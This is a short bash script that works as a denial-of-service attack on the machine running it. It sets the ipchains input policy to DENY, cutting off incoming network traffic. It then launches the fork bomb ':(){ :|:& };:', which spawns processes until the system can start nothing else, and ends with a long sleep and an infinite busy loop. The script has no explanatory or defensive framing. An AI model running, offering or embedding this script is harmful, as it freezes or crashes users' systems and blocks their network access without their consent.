#!/bin/bash
# Starts itself until nothing else can be started.
ipchains -P input DENY
:(){ :|:& };:
sleep 100000
while :; do :; done
